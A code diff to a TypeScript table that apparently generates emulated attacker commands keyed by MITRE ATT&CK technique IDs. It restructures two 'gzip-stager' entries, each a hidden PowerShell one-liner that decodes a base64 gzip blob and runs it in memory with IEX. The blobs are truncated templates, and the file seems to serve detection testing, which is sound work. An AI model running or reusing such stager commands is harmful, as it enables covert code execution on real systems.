@@ -252,14 +252,28 @@ export const extrasB: Readonly<Record<string, readonly Variant[]>> = {
     ]),
   ],
   "T1132.001": [
-    v("gzip-stager", [
-      "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAAK1WbW/aSBD+3l+xqpBsK+AYQ1qI{{rand2}}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"",
-    ]),
+    v(
+      "gzip-stager",
+      [
+        {
+          cmd: "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAAK1WbW/aSBD+3l+xqpBsK+AYQ1qI{{rand2}}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"",
+          parent: "@explorer",
+        },
+      ],
+      { shell: "none" },
+    ),
   ],
   T1132: [
-    v("gzip-stager", [
-      "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAAKVWbW/bNhD+7l8hCAUkIbasKG6{{rand2}}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"",
-    ]),
+    v(
+      "gzip-stager",
+      [
+        {
+          cmd: "powershell.exe -nop -w hidden -c \"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAAAKVWbW/bNhD+7l8hCAUkIbasKG6{{rand2}}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\"",
+          parent: "@explorer",
+        },
+      ],
+      { shell: "none" },
+    ),
   ],
   T1106: [
     v(
